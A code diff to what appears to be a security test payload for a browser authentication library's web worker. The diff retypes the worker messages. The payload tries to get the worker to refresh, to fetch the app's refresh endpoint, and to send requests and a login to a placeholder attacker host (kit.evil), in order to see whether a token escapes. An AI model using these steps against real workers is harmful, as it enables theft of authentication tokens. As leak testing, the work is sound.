@@ -3,26 +3,28 @@
 // whoever started it; what it does not do is hand over a token.
 import { stopped, succeeded, type Attack } from '../attack.ts'
 import { fruitless, judgeToken, readBook, scriptReport } from './loot.ts'
+// Types only, and no door: with the library's words the attack's change too, or do not compile.
+import type { ToPage, ToWorker, Verbs } from '../../packages/browser/src/worker-words.ts'
 import type { Payload } from '../world/payload.ts'
 
 const script: Payload = async (kit) => {
   const worker = new Worker(kit.params['worker'] ?? '', { type: 'module' })
   const heard: string[] = []
-  const answers = new Map<number, (data: unknown) => void>()
-  worker.addEventListener('message', ({ data }: MessageEvent<readonly unknown[]>) => {
+  const answers = new Map<unknown, (data: unknown) => void>()
+  worker.addEventListener('message', ({ data }: MessageEvent<ToPage>) => {
     heard.push(JSON.stringify(data))
-    answers.get(data[0] as number)?.(data)
+    if (data[0] === 'answer') answers.get(data[1])?.(data)
   })
   // oxlint-disable-next-line unicorn/require-post-message-target-origin -- a worker has one page
-  const say = (words: readonly unknown[]) => worker.postMessage(words)
+  const say = (words: ToWorker) => worker.postMessage(words)
   let count = 0
-  const ask = (verb: string, what?: unknown): Promise<unknown> =>
+  const ask = <Verb extends keyof Verbs>(verb: Verb, what: Verbs[Verb]): Promise<unknown> =>
     new Promise((resolve) => {
       answers.set(++count, resolve)
       setTimeout(resolve, 3000, undefined)
-      say([verb, count, what])
+      say([count, verb, what])
     })
-  const request = (url: string, body: unknown) => ({
+  const request = (url: string, body: unknown): Verbs['fetch'] => ({
     url,
     method: 'POST',
     mode: 'cors',
@@ -34,10 +36,11 @@ const script: Payload = async (kit) => {
     headers: [['content-type', 'application/json']],
     body: new TextEncoder().encode(JSON.stringify(body)).buffer,
   })
-  say(['page', undefined, { hidden: false, prerendering: false, cookieEnabled: true }, undefined])
-  await ask('ready')
+  const news: Verbs['page'] = [undefined, undefined, false, false, true, undefined]
+  say([0, 'page', news])
+  await ask('ready', undefined)
   // Everything that might be answered with a token, or take one to the attacker.
-  await ask('refresh')
+  await ask('refresh', undefined)
   await ask('fetch', request(`${location.origin}/api/auth/refresh`, {}))
   await ask('fetch', request(`${kit.evil}/nothing`, {}))
   await ask('login', { body: {}, path: `${kit.evil}/nothing` })
